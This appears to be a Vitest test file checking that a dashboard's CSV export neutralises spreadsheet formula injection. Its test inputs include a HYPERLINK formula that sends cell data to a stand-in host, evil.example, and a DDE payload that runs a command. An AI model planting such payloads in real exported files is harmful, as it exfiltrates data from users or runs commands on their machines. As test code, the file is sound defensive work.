// 业务统计 CSV 导出: a cell that a spreadsheet would run as a formula is written as text.
import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../renderer/src/dashboard/csv.js';

describe('统计表 CSV 下载防公式注入', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"点此")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""点此"")"`],
    ["=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('leaves ordinary text and numbers as they are, negative numbers included', () => {
    expect(csvCell('物业服务合同备案')).toBe('物业服务合同备案');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('甲,乙')).toBe('"甲,乙"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
  });

  it('writes a byte order mark and CRLF rows', () => {
    expect(csvText([['业务类型', '数量'], ['=1+1', 3]])).toBe("\ufeff业务类型,数量\r\n'=1+1,3");
  });
});
